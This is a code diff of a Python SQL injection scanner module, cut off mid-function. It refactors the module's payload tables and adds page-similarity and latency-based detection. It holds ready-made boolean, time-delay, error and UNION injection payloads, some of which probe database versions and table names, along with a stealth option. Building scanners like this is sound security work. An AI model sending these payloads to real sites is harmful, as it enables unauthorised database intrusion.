@@ -3,20 +3,290 @@
 
 import logging
 import re
-import time
 import random
-from typing import Dict, List, Any, Tuple, Set
-from urllib.parse import parse_qs, urlparse, urlencode, urlunparse
+import threading
+import statistics
+from functools import partial
+from typing import Dict, List, Any, Tuple, Set, Optional, Callable
+from urllib.parse import parse_qs, urlsplit, quote_plus
 from .base_module import BaseTestModule
 
+try:
+    import hyperscan
+except ImportError:
+    hyperscan = None
+
 logger = logging.getLogger("securescout.sqlinjection")
 
+# Payloads for detecting SQL injection vulnerabilities
+
+# Boolean-based blind payloads
+BOOLEAN_PAYLOADS = (
+    "' OR '1'='1",
+    "' OR 1=1 --",
+    "' OR 1=1#",
+    "' OR 1=1/*",
+    '" OR "1"="1',
+    '" OR 1=1 --',
+    '" OR 1=1#',
+    '" OR 1=1/*',
+    "') OR ('1'='1",
+    "')) OR (('1'='1",
+    "' OR '1'='1' --",
+    ") OR 1=1 --",
+    "' OR 'a'='a",
+    "') OR ('a'='a",
+    "1' OR '1'='1'",
+    "1 OR 1=1",
+    "1' OR '1'='1' --"
+)
+
+# Time-based blind payloads
+TIME_PAYLOADS = (
+    "' OR SLEEP(3) --",
+    "' OR SLEEP(3)#",
+    "' OR SLEEP(3)/*",
+    "\" OR SLEEP(3) --",
+    "\" OR SLEEP(3)#",
+    "\" OR SLEEP(3)/*",
+    "') OR SLEEP(3) --",
+    "')) OR SLEEP(3) --",
+    "1') OR SLEEP(3) --",
+    "' WAITFOR DELAY '0:0:3' --",
+    "\" WAITFOR DELAY '0:0:3' --",
+    "') WAITFOR DELAY '0:0:3' --",
+    "' OR pg_sleep(3) --",
+    "\" OR pg_sleep(3) --",
+    "') OR pg_sleep(3) --",
+    "')) OR pg_sleep(3) --",
+    "' SELECT BENCHMARK(30000000,MD5(CHAR(97))) --",
+    "\" SELECT BENCHMARK(30000000,MD5(CHAR(97))) --"
+)
+
+# Error-based payloads
+ERROR_PAYLOADS = (
+    "'",
+    "\"",
+    "')",
+    "\")",
+    "';",
+    "\";",
+    "');",
+    "\");",
+    "'; WAITFOR DELAY '0:0:0' --",
+    "1/0",
+    "' OR 1/0 --",
+    "\" OR 1/0 --",
+    "' AND 1=CONVERT(int,(SELECT CHAR(58))) --",
+    "' AND 1=CAST((SELECT 1) AS int) --",
+    "' AND CAST((SELECT db_name()) AS int)=1 --",
+    "' AND CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)=1 --",
+    "' AND extractvalue(1, concat(0x7e, (SELECT @@version))) --"
+)
+
+# UNION-based payloads
+UNION_PAYLOADS = (
+    "' UNION SELECT NULL --",
+    "' UNION SELECT NULL,NULL --",
+    "' UNION SELECT NULL,NULL,NULL --",
+    "' UNION SELECT NULL,NULL,NULL,NULL --",
+    "' UNION SELECT NULL,NULL,NULL,NULL,NULL --",
+    "' UNION SELECT 1,2,3,4,5 --",
+    "' UNION ALL SELECT 1,2,3,4,5 --",
+    "' UNION SELECT @@version --",
+    "' UNION SELECT 'a',@@version,'c' --",
+    "' UNION SELECT NULL,NULL,NULL,NULL,NULL FROM information_schema.tables --"
+)
+
+# Basic SQLi detection
+GENERIC_PAYLOADS = (
+    "%27",
+    "'"
+)
+
+# All payloads by category
+SQLI_PAYLOADS = {
+    "boolean": BOOLEAN_PAYLOADS,
+    "time": TIME_PAYLOADS,
+    "error": ERROR_PAYLOADS,
+    "union": UNION_PAYLOADS,
+    "generic": GENERIC_PAYLOADS
+}
+
+# URL-encoded form of each payload, so probes look it up instead of encoding it
+ENCODED_SQLI_PAYLOADS = {
+    payload: quote_plus(payload)
+    for payloads in SQLI_PAYLOADS.values()
+    for payload in payloads
+}
+
+# Baseline content types that can come from a database-backed page. Error
+# statuses are still tested: a payload turning a 404 into a 200 is a finding.
+INJECTABLE_CONTENT_TYPES = ('text/', 'application/json', 'application/xml', 'application/xhtml+xml')
+
+# Number of differing signature bits above which two pages count as different
+SIGNATURE_DISTANCE_THRESHOLD = 12
+
+# Pages with fewer tokens than this have too few shingles for the signature
+# distance to mean much, so they are compared by length instead
+MIN_SIGNATURE_TOKENS = 64
+LENGTH_DIFFERENCE_RATIO = 0.3
+
+# Time-based detection: the minimum response time that counts as an injected
+# 3s sleep, the margin required above the target's normal latency, and the
+# normal latency above which a sleep cannot be told apart from noise
+TIME_BASED_THRESHOLD = 2.5
+TIME_BASED_MARGIN = 2.0
+MAX_BASELINE_LATENCY = 2.0
+LATENCY_SAMPLES = 3
+
+# Categories whose payloads are sent one at a time, because concurrent
+# requests to the same target would inflate each other's response times
+SEQUENTIAL_CATEGORIES = ("time",)
+
+_TOKEN_PATTERN = re.compile(rb"\w+")
+
+# Words that change between loads of the same page: anything with a digit
+# (timestamps, counters, hex ids) and long mixed-case runs (base64 tokens)
+_VOLATILE_TOKEN_PATTERN = re.compile(rb"\b(?:\w*\d\w*|(?=\w*[a-z])(?=\w*[A-Z])\w{12,})\b")
+
+def page_tokens(content: bytes) -> List[bytes]:
+    """Split a page body into words, with volatile words replaced by a placeholder."""
+    return _TOKEN_PATTERN.findall(_VOLATILE_TOKEN_PATTERN.sub(b"0", content or b""))
+
+def page_signature(content: bytes, tokens: Optional[List[bytes]] = None) -> int:
+    """
+    Compute a 64-bit simhash of a page body from its 3-token shingles.
+    
+    Volatile words (timestamps, tokens, ids) are normalized first, and pages
+    that differ only in other small dynamic parts (banners) get signatures a
+    few bits apart, while substantially different pages differ in many bits.
+    
+    Args:
+        content: Raw response body
+        tokens: The body's page_tokens, if already computed
+        
+    Returns:
+        64-bit page signature
+    """
+    if tokens is None:
+        tokens = page_tokens(content)
+    shingles = {b" ".join(tokens[i:i + 3]) for i in range(max(len(tokens) - 2, 1))}
+    
+    # Each bit of the signature is the majority vote of that bit across
+    # shingles. The hashes are laid out as binary strings so the votes are
+    # counted column by column in C rather than bit by bit in Python.
+    majority = len(shingles) / 2
+    columns = zip(*[format(hash(shingle) & 0xFFFFFFFFFFFFFFFF, '064b') for shingle in shingles])
+    return int(''.join('1' if column.count('1') > majority else '0' for column in columns), 2)
+
+def page_fingerprint(content: bytes) -> Tuple[int, Optional[int]]:
+    """
+    Summarize a page body for comparison with pages_differ.
+    
+    Returns:
+        Tuple of (normalized body length, signature or None for short pages)
+    """
+    tokens = page_tokens(content)
+    length = sum(map(len, tokens))
+    if len(tokens) < MIN_SIGNATURE_TOKENS:
+        return length, None
+    return length, page_signature(content, tokens)
+
+def pages_differ(baseline: Tuple[int, Optional[int]], content: bytes) -> bool:
+    """
+    Check whether a page body is substantially different from a baseline.
+    
+    Long pages are compared by signature distance. If either page is short,
+    their normalized lengths are compared instead.
+    
+    Args:
+        baseline: page_fingerprint of the baseline body
+        content: Raw response body
+        
+    Returns:
+        bool: True if the pages differ
+    """
+    baseline_length, baseline_signature = baseline
+    length, signature = page_fingerprint(content)
+    if baseline_signature is None or signature is None:
+        return abs(length - baseline_length) > baseline_length * LENGTH_DIFFERENCE_RATIO
+    return (signature ^ baseline_signature).bit_count() > SIGNATURE_DISTANCE_THRESHOLD
+
+# Error patterns that indicate a successful SQLi
+SQL_ERROR_PATTERNS = (
+    r"SQL syntax.*?MySQL",
+    r"Warning.*?mysqli?",
+    r"Warning.*?\Woci_",
+    r"Oracle.*?Driver",
+    r"Microsoft Access Driver",
+    r"JET Database Engine",
+    r"SQLite/JDBCDriver",
+    r"SQLite.Exception",
+    r"System.Data.SQLite.SQLiteException",
+    r"ODBC Driver.*? SQL Server",
+    r"Microsoft SQL Native Client",
+    r"SQLSTATE",
+    r"Microsoft OLE DB Provider for",
+    r"\bSQL Server\b",
+    r"Unclosed quotation mark after",
+    r"Incorrect syntax near",
+    r"Syntax error in string in query expression",
+    r"Unclosed quotation mark before the character string",
+    r"Error converting data type",
+    r"PostgreSQL.*?ERROR",
+    r"DB2 SQL error",
+    r"Sybase message",
+    r"Syntax error.*?PLS/SQL",
+    r"ORA-[0-9][0-9][0-9][0-9]",
+    r"quoted string not properly terminated",
+    r"SQLCODE",
+    r"SQL command not properly ended",
+    r"unexpected end of SQL command",
+    r"You have an error in your SQL syntax"
+)
+
+def _compile_error_database():
+    """Compile SQL_ERROR_PATTERNS into a hyperscan database, if hyperscan is installed."""
+    if hyperscan is None:
+        return None
+    
+    try:
+        database = hyperscan.Database()
+        database.compile(
+            expressions=[pattern.encode() for pattern in SQL_ERROR_PATTERNS],
+            ids=list(range(len(SQL_ERROR_PATTERNS))),
+            elements=len(SQL_ERROR_PATTERNS),
+            flags=[hyperscan.HS_FLAG_CASELESS | hyperscan.HS_FLAG_DOTALL | hyperscan.HS_FLAG_SINGLEMATCH]
+                  * len(SQL_ERROR_PATTERNS)
+        )
+        return database
+    except hyperscan.error as e:
+        logger.warning(f"Could not compile SQL error patterns with hyperscan: {e}")
+        return None
+
 class SQLInjection(BaseTestModule):
     """
     SQL Injection testing module.
     Tests for various SQL injection vulnerabilities in input parameters.
     """
     
+    # Error patterns are compiled once when the class is loaded, as byte
+    # patterns so they run over the raw response body
+    _ERROR_PATTERNS = tuple(re.compile(pattern.encode(), re.IGNORECASE | re.DOTALL) for pattern in SQL_ERROR_PATTERNS)
+    
+    # All error patterns fused so a response is scanned once, not once per pattern
+    _ERROR_PATTERN = re.compile(
+        "|".join(f"(?:{pattern})" for pattern in SQL_ERROR_PATTERNS).encode(),
+        re.IGNORECASE | re.DOTALL
+    )
+    
+    # Hyperscan DFA for the same patterns, when the library is installed
+    _ERROR_DB = _compile_error_database()
+    _ERROR_SCRATCH = threading.local()
+    
+    _TEST_PAYLOADS = SQLI_PAYLOADS
+    
     def __init__(self, scanner):
         """Initialize the SQL Injection test module."""
         super().__init__(scanner)
@@ -24,125 +294,23 @@ class SQLInjection(BaseTestModule):
         self.description = "Tests for SQL injection vulnerabilities in input parameters"
         self.category = "injection"
         
-        # Payloads for detecting SQL injection vulnerabilities
-        self.test_payloads = {
-            # Boolean-based blind payloads
-            "boolean": [
-                "' OR '1'='1",
-                "' OR 1=1 --",
-                "' OR 1=1#",
-                "' OR 1=1/*",
-                '" OR "1"="1',
-                '" OR 1=1 --',
-                '" OR 1=1#',
-                '" OR 1=1/*',
-                "') OR ('1'='1",
-                "')) OR (('1'='1",
-                "' OR '1'='1' --",
-                ") OR 1=1 --",
-                "' OR 'a'='a",
-                "') OR ('a'='a",
-                "1' OR '1'='1'",
-                "1 OR 1=1",
-                "1' OR '1'='1' --"
-            ],
-            
-            # Time-based blind payloads
-            "time": [
-                "' OR SLEEP(3) --",
-                "' OR SLEEP(3)#",
-                "' OR SLEEP(3)/*",
-                "\" OR SLEEP(3) --",
-                "\" OR SLEEP(3)#",
-                "\" OR SLEEP(3)/*",
-                "') OR SLEEP(3) --",
-                "')) OR SLEEP(3) --",
-                "1') OR SLEEP(3) --",
-                "' WAITFOR DELAY '0:0:3' --",
-                "\" WAITFOR DELAY '0:0:3' --",
-                "') WAITFOR DELAY '0:0:3' --",
-                "' OR pg_sleep(3) --",
-                "\" OR pg_sleep(3) --",
-                "') OR pg_sleep(3) --",
-                "')) OR pg_sleep(3) --",
-                "' SELECT BENCHMARK(30000000,MD5(CHAR(97))) --",
-                "\" SELECT BENCHMARK(30000000,MD5(CHAR(97))) --"
-            ],
-            
-            # Error-based payloads
-            "error": [
-                "'",
-                "\"",
-                "')",
-                "\")",
-                "';",
-                "\";",
-                "');",
-                "\");",
-                "'; WAITFOR DELAY '0:0:0' --",
-                "1/0",
-                "' OR 1/0 --",
-                "\" OR 1/0 --",
-                "' AND 1=CONVERT(int,(SELECT CHAR(58))) --",
-                "' AND 1=CAST((SELECT 1) AS int) --",
-                "' AND CAST((SELECT db_name()) AS int)=1 --",
-                "' AND CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)=1 --",
-                "' AND extractvalue(1, concat(0x7e, (SELECT @@version))) --"
-            ],
-            
-            # UNION-based payloads
-            "union": [
-                "' UNION SELECT NULL --",
-                "' UNION SELECT NULL,NULL --",
-                "' UNION SELECT NULL,NULL,NULL --",
-                "' UNION SELECT NULL,NULL,NULL,NULL --",
-                "' UNION SELECT NULL,NULL,NULL,NULL,NULL --",
-                "' UNION SELECT 1,2,3,4,5 --",
-                "' UNION ALL SELECT 1,2,3,4,5 --",
-                "' UNION SELECT @@version --",
-                "' UNION SELECT 'a',@@version,'c' --",
-                "' UNION SELECT NULL,NULL,NULL,NULL,NULL FROM information_schema.tables --"
-            ],
-            
-            # Basic SQLi detection
-            "generic": [
-                "%27",
-                "'"
-            ]
-        }
-        
-        # Error patterns to detect successful SQLi
-        self.error_patterns = [
-            re.compile(r"SQL syntax.*?MySQL", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Warning.*?mysqli?", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Warning.*?\Woci_", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Oracle.*?Driver", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Microsoft Access Driver", re.IGNORECASE | re.DOTALL),
-            re.compile(r"JET Database Engine", re.IGNORECASE | re.DOTALL),
-            re.compile(r"SQLite/JDBCDriver", re.IGNORECASE | re.DOTALL),
-            re.compile(r"SQLite.Exception", re.IGNORECASE | re.DOTALL),
-            re.compile(r"System.Data.SQLite.SQLiteException", re.IGNORECASE | re.DOTALL),
-            re.compile(r"ODBC Driver.*? SQL Server", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Microsoft SQL Native Client", re.IGNORECASE | re.DOTALL),
-            re.compile(r"SQLSTATE", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Microsoft OLE DB Provider for", re.IGNORECASE | re.DOTALL),
-            re.compile(r"\bSQL Server\b", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Unclosed quotation mark after", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Incorrect syntax near", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Syntax error in string in query expression", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Unclosed quotation mark before the character string", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Error converting data type", re.IGNORECASE | re.DOTALL),
-            re.compile(r"PostgreSQL.*?ERROR", re.IGNORECASE | re.DOTALL),
-            re.compile(r"DB2 SQL error", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Sybase message", re.IGNORECASE | re.DOTALL),
-            re.compile(r"Syntax error.*?PLS/SQL", re.IGNORECASE | re.DOTALL),
-            re.compile(r"ORA-[0-9][0-9][0-9][0-9]", re.IGNORECASE | re.DOTALL),
-            re.compile(r"quoted string not properly terminated", re.IGNORECASE | re.DOTALL),
-            re.compile(r"SQLCODE", re.IGNORECASE | re.DOTALL),
-            re.compile(r"SQL command not properly ended", re.IGNORECASE | re.DOTALL),
-            re.compile(r"unexpected end of SQL command", re.IGNORECASE | re.DOTALL),
-            re.compile(r"You have an error in your SQL syntax", re.IGNORECASE | re.DOTALL)
-        ]
+        # Error patterns to detect successful SQLi, shared by all instances
+        self.error_patterns = self._ERROR_PATTERNS
+        self.error_pattern = self._ERROR_PATTERN
+        self.encoded_payloads = ENCODED_SQLI_PAYLOADS
+        
+        # Input slots already probed, as (host, path, parameter) for URLs and
+        # (method, host, path, input name) for forms
+        self._probed_slots: Set[Tuple[str, ...]] = set()
+        
+        # Response time above which a time-based payload counts as a hit,
+        # or None when the target is too slow for time-based tests
+        self._latency_threshold: Optional[float] = TIME_BASED_THRESHOLD
+    
+    @property
+    def test_payloads(self) -> Dict[str, Tuple[str, ...]]:
+        """Payloads for detecting SQL injection vulnerabilities, by category."""
+        return self._TEST_PAYLOADS
     
     def run(self) -> List[Dict[str, Any]]:
         """
@@ -154,6 +322,7 @@ class SQLInjection(BaseTestModule):
         logger.info("Starting SQL injection tests")
         
         self.findings = []
+        self._probed_slots = set()
         tested_urls = set()
         
         # Get form inputs discovered during crawling
@@ -162,15 +331,24 @@ class SQLInjection(BaseTestModule):
         # Get GET parameters from URLs
         urls_with_params = self.get_urls_with_parameters()
         
-        # Test GET parameters
-        for url in urls_with_params:
-            if url not in tested_urls:
-                self.test_get_parameters(url)
-                tested_urls.add(url)
-        
-        # Test forms
-        for form in forms:
-            self.test_form(form)
+        # Measure the target's normal latency before any time-based tests
+        if urls_with_params or forms:
+            self._latency_threshold = self._calibrate_latency(
+                urls_with_params[0] if urls_with_params else self.scanner.target_url
+            )
+        
+        try:
+            # Test GET parameters
+            for url in urls_with_params:
+                if url not in tested_urls:
+                    self.test_get_parameters(url)
+                    tested_urls.add(url)
+            
+            # Test forms
+            for form in forms:
+                self.test_form(form)
+        finally:
+            self._shutdown_probe_executor()
         
         logger.info(f"SQL injection tests completed with {len(self.findings)} findings")
         return self.findings
@@ -186,8 +364,8 @@ class SQLInjection(BaseTestModule):
         urls = []
         if hasattr(self.scanner, 'crawled_urls'):
             for url in self.scanner.crawled_urls:
-                parsed = urlparse(url)
-                if parsed.query:
+                # Same as checking urlsplit(url).query, without a full parse
+                if url.partition('#')[0].partition('?')[2]:
                     urls.append(url)
         return urls
     
@@ -198,97 +376,86 @@ class SQLInjection(BaseTestModule):
         Args:
             url: URL with query parameters to test
         """
-        logger.debug(f"Testing GET parameters in {url}")
+        logger.debug("Testing GET parameters in %s", url)
         
-        parsed_url = urlparse(url)
+        parsed_url = urlsplit(url)
         query_params = parse_qs(parsed_url.query)
         
+        # Only test parameters not already probed on another URL for the same
+        # path, e.g. the same search box across paginated results
+        params_to_test = []
+        for param in query_params:
+            slot = (parsed_url.netloc, parsed_url.path, param)
+            if slot not in self._probed_slots:
+                self._probed_slots.add(slot)
+                params_to_test.append(param)
+        
         # Skip if no parameters
-        if not query_params:
+        if not params_to_test:
+            return
+            
+        # Get a baseline response once for all parameters
+        baseline_response, error = self.scanner._make_request(url, method='GET')
+        
+        # Skip URLs whose baseline shows the parameters cannot reach a query
+        if not error and not self._is_injectable_response(baseline_response):
+            logger.debug("Skipping %s: baseline response is not a SQL injection candidate", url)
             return
+        
+        # Boolean and time-based tests need a baseline, of any status
+        has_baseline = not error and baseline_response is not None
+        if has_baseline:
+            baseline_fingerprint = page_fingerprint(baseline_response.content)
+            baseline_status = baseline_response.status_code
+        
+        # If injection returns a 200 OK where the baseline did not (meaning the
+        # query was successful) or a substantially different page
+        def check_boolean(response, response_time):
+            if not response:
+                return None
+            if (response.status_code == 200 and 
+                baseline_status != 200 or
+                pages_differ(baseline_fingerprint, response.content)):
+                return "boolean-based"
+            return None
             
         # Test each parameter
-        for param, values in query_params.items():
-            original_value = values[0] if values else ""
+        for param in params_to_test:
+            url_prefix, url_suffix = self._get_url_template(parsed_url, query_params, param)
+            send = partial(self._send_get_payload, url_prefix, url_suffix)
             
             # Test for error-based SQLi
-            for payload in self.test_payloads["error"]:
-                modified_params = query_params.copy()
-                modified_params[param] = [payload]
-                new_query = urlencode(modified_params, doseq=True)
-                
-                # Rebuild the URL with the modified query
-                test_url_parts = list(parsed_url)
-                test_url_parts[4] = new_query  # index 4 is the query part
-                test_url = urlunparse(test_url_parts)
-                
-                # Send the request
-                response, error = self.scanner._make_request(test_url, method='GET')
-                
-                if error:
-                    continue
-                
-                # Check for SQL errors in the response
-                if self.check_for_sql_errors(response):
-                    self.report_sql_injection_finding(url, param, payload, "error-based", response)
-                    # Skip further tests for this parameter once a vulnerability is found
-                    break
+            hit = self._probe_payloads(
+                "error",
+                send,
+                lambda response, response_time: "error-based" if self.check_for_sql_errors(response) else None
+            )
+            if hit:
+                payload, response, response_time, injection_type = hit
+                self.report_sql_injection_finding(url, param, payload, injection_type, response)
             
-            # Test for boolean-based SQLi
-            # First, get a baseline response
-            baseline_response, error = self.scanner._make_request(url, method='GET')
-            if error or not baseline_response:
+            if not has_baseline:
                 continue
-                
-            baseline_content = baseline_response.text
-            baseline_status = baseline_response.status_code
             
-            # Test each boolean payload
-            for payload in self.test_payloads["boolean"]:
-                modified_params = query_params.copy()
-                modified_params[param] = [payload]
-                new_query = urlencode(modified_params, doseq=True)
-                
-                test_url_parts = list(parsed_url)
-                test_url_parts[4] = new_query
-                test_url = urlunparse(test_url_parts)
-                
-                response, error = self.scanner._make_request(test_url, method='GET')
-                
-                if error or not response:
-                    continue
-                
-                # Naive check: If injection causes a significant change in response 
-                # and returns a 200 OK (meaning the query was successful)
-                if (response.status_code == 200 and 
-                    baseline_status != 200 or
-                    abs(len(response.text) - len(baseline_content)) > len(baseline_content) * 0.3):
-                    self.report_sql_injection_finding(url, param, payload, "boolean-based", response)
-                    break
+            # Test for boolean-based SQLi
+            hit = self._probe_payloads("boolean", send, check_boolean)
+            if hit:
+                payload, response, response_time, injection_type = hit
+                self.report_sql_injection_finding(url, param, payload, injection_type, response)
             
-            # Test for time-based SQLi
-            for payload in self.test_payloads["time"]:
-                modified_params = query_params.copy()
-                modified_params[param] = [payload]
-                new_query = urlencode(modified_params, doseq=True)
-                
-                test_url_parts = list(parsed_url)
-                test_url_parts[4] = new_query
-                test_url = urlunparse(test_url_parts)
-                
-                # Measure response time
-                start_time = time.time()
-                response, error = self.scanner._make_request(test_url, method='GET')
-                response_time = time.time() - start_time
-                
-                if error:
-                    continue
-                    
-                # If response time is significantly higher, might indicate time-based SQLi
-                # Use a threshold slightly longer than the sleep time in the payload
-                if response_time > 2.5:  # Using 2.5s threshold for 3s sleep payloads
-                    self.report_sql_injection_finding(url, param, payload, "time-based", response, response_time)
-                    break
+            # Test for time-based SQLi, unless the target is too slow to tell
+            # If response time is significantly higher, might indicate time-based SQLi
+            latency_threshold = self._latency_threshold
+            if latency_threshold is None:
+                continue
+            hit = self._probe_payloads(
+                "time",
+                send,
+                lambda response, response_time: "time-based" if response_time > latency_threshold else None
+            )
+            if hit:
+                payload, response, response_time, injection_type = hit
+                self.report_sql_injection_finding(url, param, payload, injection_type, response, response_time)
     
     def test_form(self, form: Dict[str, Any]) -> None:
         """
@@ -305,7 +472,7 @@ class SQLInjection(BaseTestModule):
         if not form_url or not inputs:
             return
             
-        logger.debug(f"Testing form at {form_url} with method {form_method}")
+        logger.debug("Testing form at %s with method %s", form_url, form_method)
         
         # Prepare form data with default values
         form_data = {}
@@ -332,8 +499,19 @@ class SQLInjection(BaseTestModule):
             else:
                 form_data[input_name] = 'testvalue'
         
+        # Only test inputs not already probed through another form posting to
+        # the same host and path, e.g. a login form repeated on every page
+        # with a different ?next= in its action
+        action = urlsplit(form_url)
+        inputs_to_test = []
+        for input_name in form_data:
+            slot = (form_method, action.netloc, action.path, input_name)
+            if slot not in self._probed_slots:
+                self._probed_slots.add(slot)
+                inputs_to_test.append(input_name)
+        
         # Skip if no valid inputs to test
-        if not form_data:
+        if not inputs_to_test:
             return
             
         # Get baseline response
@@ -341,75 +519,194 @@ class SQLInjection(BaseTestModule):
         if form_method == 'POST':
             baseline_response, error = self.scanner._make_request(form_url, method='POST', data=form_data)
         else:
-            # Convert form data to query string for GET
-            params = urlencode(form_data)
-            url = f"{form_url}?{params}" if '?' not in form_url else f"{form_url}&{params}"
-            baseline_response, error = self.scanner._make_request(url, method='GET')
+            baseline_response, error = self.scanner._make_request(self._get_form_url(form_url, form_data), method='GET')
         
-        if error or not baseline_response:
+        if error or baseline_response is None:
+            return
+        
+        # Skip forms whose response cannot come from a database-backed page
+        if not self._is_injectable_response(baseline_response):
+            logger.debug("Skipping form at %s: baseline response is not a SQL injection candidate", form_url)
             return
             
-        baseline_content = baseline_response.text
+        baseline_fingerprint = page_fingerprint(baseline_response.content)
         baseline_status = baseline_response.status_code
         
         # Test each input field
-        for input_name in form_data.keys():
+        for input_name in inputs_to_test:
+            if form_method == 'POST':
+                send = partial(self._send_form_payload, form_url, form_data, input_name)
+            else:
+                url_prefix, url_suffix = self._get_form_url_template(form_url, form_data, input_name)
+                send = partial(self._send_get_payload, url_prefix, url_suffix)
+            
             # Test each payload category
-            for category, payloads in self.test_payloads.items():
-                for payload in payloads:
-                    # Skip time-based tests if stealth is high
-                    if category == "time" and self.scanner.stealth_level == "high":
-                        continue
-                        
-                    # Prepare modified form data
-                    test_data = form_data.copy()
-                    test_data[input_name] = payload
-                    
-                    # Send request based on form method
-                    if form_method == 'POST':
-                        response, error = self.scanner._make_request(form_url, method='POST', data=test_data)
-                    else:
-                        params = urlencode(test_data)
-                        url = f"{form_url}?{params}" if '?' not in form_url else f"{form_url}&{params}"
-                        response, error = self.scanner._make_request(url, method='GET')
-                    
-                    if error or not response:
-                        continue
+            for category in self.test_payloads:
+                # Skip time-based tests if stealth is high or the target is too slow
+                if category == "time" and (self.scanner.stealth_level == "high" or self._latency_threshold is None):
+                    continue
+                
+                def check_response(response, response_time, category=category):
+                    if not response:
+                        return None
                     
                     # Check for error-based SQLi
                     if self.check_for_sql_errors(response):
-                        self.report_sql_injection_finding(form_url, input_name, payload, f"error-based ({form_method})", response)
-                        break
+                        return f"error-based ({form_method})"
                     
                     # Check for time-based SQLi
-                    if category == "time":
-                        # Measure response time
-                        start_time = time.time()
-                        if form_method == 'POST':
-                            response, error = self.scanner._make_request(form_url, method='POST', data=test_data)
-                        else:
-                            params = urlencode(test_data)
-                            url = f"{form_url}?{params}" if '?' not in form_url else f"{form_url}&{params}"
-                            response, error = self.scanner._make_request(url, method='GET')
-                        
-                        response_time = time.time() - start_time
-                        
-                        if error:
-                            continue
-                            
-                        # If response time is significantly higher, might indicate time-based SQLi
-                        if response_time > 2.5:  # Using 2.5s threshold for 3s sleep payloads
-                            self.report_sql_injection_finding(form_url, input_name, payload, f"time-based ({form_method})", response, response_time)
-                            break
+                    # If response time is significantly higher, might indicate time-based SQLi
+                    if category == "time" and response_time > self._latency_threshold:
+                        return f"time-based ({form_method})"
                     
                     # Check for boolean-based SQLi
-                    if category == "boolean":
-                        # Naive check: If injection causes a significant change in response
-                        if (response.status_code == 200 and 
-                            baseline_status != 200 or
-                            abs(len(response.text) - len(baseline_content)) > len(baseline_content) * 0.3):
-                            self.report_sql_injection_finding(form_url, input_name, payload, f"boolean-based ({form_method})", response)
-                            break
+                    # If injection causes a significant change in response
+                    if category == "boolean" and (
+                        response.status_code == 200 and 
+                        baseline_status != 200 or
+                        pages_differ(baseline_fingerprint, response.content)):
+                        return f"boolean-based ({form_method})"
+                    
+                    return None
+                
+                hit = self._probe_payloads(category, send, check_response)
+                if hit:
+                    payload, response, response_time, injection_type = hit
+                    if not injection_type.startswith("time-based"):
+                        response_time = None
+                    self.report_sql_injection_finding(form_url, input_name, payload, injection_type, response, response_time)
+    
+    def _calibrate_latency(self, url: Optional[str]) -> Optional[float]:
+        """
+        Pick the time-based detection threshold from the target's normal latency.
+        
+        Args:
+            url: Representative URL to request unmodified
+            
+        Returns:
+            Response time threshold in seconds, or None if the target's
+            normal latency is too high for time-based tests
+        """
+        if not url:
+            return TIME_BASED_THRESHOLD
+        
+        samples = []
+        for _ in range(LATENCY_SAMPLES):
+            response, error = self.scanner._make_request(url, method='GET')
+            if not error and response is not None:
+                samples.append(self._get_response_time(response))
+        
+        if not samples:
+            return TIME_BASED_THRESHOLD
+        
+        baseline_latency = statistics.median(samples)
+        if baseline_latency > MAX_BASELINE_LATENCY:
+            logger.info(f"Skipping time-based SQLi tests: baseline latency is {baseline_latency:.2f}s")
+            return None
+        
+        return max(TIME_BASED_THRESHOLD, baseline_latency + TIME_BASED_MARGIN)
+    
+    def _is_injectable_response(self, response) -> bool:
+        """
+        Check whether a baseline response could come from a database-backed page.
+        
+        Args:
+            response: Baseline HTTP response object
+            
+        Returns:
+            bool: False for non-text content
+        """
+        content_type = response.headers.get('Content-Type', '').lower()
+        return not content_type or content_type.startswith(INJECTABLE_CONTENT_TYPES)
+    
+    def _send_get_payload(self, url_prefix: str, url_suffix: str,
+                          payload: str, encoded_payload: str) -> Tuple[Any, Any, float]:
+        """
+        Send a GET request with one query parameter replaced by a payload.
+        
+        Returns:
+            Tuple of (response, error, response_time)
+        """
+        test_url = f"{url_prefix}{encoded_payload}{url_suffix}"
+        
+        response, error = self.scanner._make_request(test_url, method='GET')
+        return response, error, self._get_response_time(response)
+    
+    def _send_form_payload(self, form_url: str, form_data: Dict[str, str],
+                           input_name: str, payload: str, encoded_payload: str) -> Tuple[Any, Any, float]:
+        """
+        Submit a POST form with one input replaced by a payload.
+        
+        Returns:
+            Tuple of (response, error, response_time)
+        """
+        # Prepare modified form data
+        test_data = form_data.copy()
+        test_data[input_name] = payload
+        
+        response, error = self.scanner._make_request(form_url, method='POST', data=test_data)
+        return response, error, self._get_response_time(response)
+    
+    @staticmethod
+    def _get_response_time(response) -> float:
+        """
+        Get how long the server took to respond, in seconds.
+        
+        Uses the time requests measured between sending the request and
+        parsing the response headers, so the scanner's stealth delay and
+        client-side overhead are not mistaken for an injected sleep.
+        """
+        if response is None:
+            return 0.0
+        return response.elapsed.total_seconds()
+    
+    def _probe_payloads(self, category: str,
+                        send: Callable[[str, str], Tuple[Any, Any, float]],
+                        detect: Callable[[Any, float], Optional[str]]) -> Optional[Tuple[str, Any, float, str]]:
+        """
+        Send payloads and return the first one that indicates SQLi.
+        
+        Error and boolean payloads are sent concurrently. Their results are
+        checked in payload order, so the reported payload is the same one a
+        sequential scan would report, and payloads still queued when a hit is
+        found are cancelled. Time-based payloads are sent one at a time, since
+        overlapping requests would slow each other past the latency threshold.
+        
+        Args:
+            category: Payload category to send, in priority order
+            send: Sends one payload given its raw and URL-encoded forms,
+                returning (response, error, response_time)
+            detect: Returns the injection type for a response, or None
+            
+        Returns:
+            Tuple of (payload, response, response_time, injection_type) or None
+        """
+        payloads = self.test_payloads[category]
+        encoded_payloads = self.encoded_payloads
+        
+        if category in SEQUENTIAL_CATEGORIES:
+            results = (send(payload, encoded_payloads[payload]) for payload in payloads)
+            futures = []
+        else:
+            executor = self._get_probe_executor()
+            futures = [
+                executor.submit(send, payload, encoded_payloads[payload])
+                for payload in payloads
+            ]
